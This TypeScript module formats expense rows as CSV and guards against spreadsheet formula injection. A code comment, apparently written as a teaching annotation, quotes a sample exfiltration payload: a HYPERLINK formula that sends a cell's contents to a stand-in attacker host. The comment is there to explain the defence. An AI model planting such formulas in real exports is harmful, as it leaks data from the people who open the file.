// CSV (RFC 4180) for the export, one row at a time: pure functions, so the tests can check every
// escaping rule without a server.
import type { Category } from './expense.fields.js';

export interface CsvExpense {
  date: Date;
  category: Category;
  amountCents: number;
  currency: string;
  description: string;
}

export const CSV_HEADER = ['date', 'category', 'amountCents', 'amount', 'currency', 'description'];

/** A spreadsheet runs a cell that starts with one of these as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One cell: safe to open in a spreadsheet, quoted when it must be. */
export function csvCell(value: string): string {
  // TODO(mistake:ignoring-security): the tempting version is `values.join(',')`, the
  // description written as the user typed it. A description of `=HYPERLINK("https://evil.example
  // ?d="&A1, "Refund")` or `@SUM(…)` then runs as a formula in the spreadsheet of whoever opens
  // the export (CSV injection, OWASP): it can leak the other cells or start a command on old
  // spreadsheet software. And a comma, quote or line break in it shifts every column after it.
  // Prefix a cell that starts with =, +, -, @, tab or CR with a single quote, so it is read as
  // text, and quote cells that hold a comma, quote or line break, doubling their quotes. The
  // guard: `npm test -- expense-export` checks both rules cell by cell and on a real export.
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** Cents as a decimal amount with integer arithmetic only: 1250 → "12.50", 5 → "0.05". */
export function formatCents(cents: number): string {
  return `${Math.trunc(cents / 100)}.${String(cents % 100).padStart(2, '0')}`;
}

/** One line, ending with CRLF as RFC 4180 asks. */
export function csvLine(cells: string[]): string {
  return `${cells.map(csvCell).join(',')}\r\n`;
}

export function expenseLine(expense: CsvExpense): string {
  return csvLine([
    expense.date.toISOString().slice(0, 10),
    expense.category,
    String(expense.amountCents),
    formatCents(expense.amountCents),
    expense.currency,
    expense.description,
  ]);
}
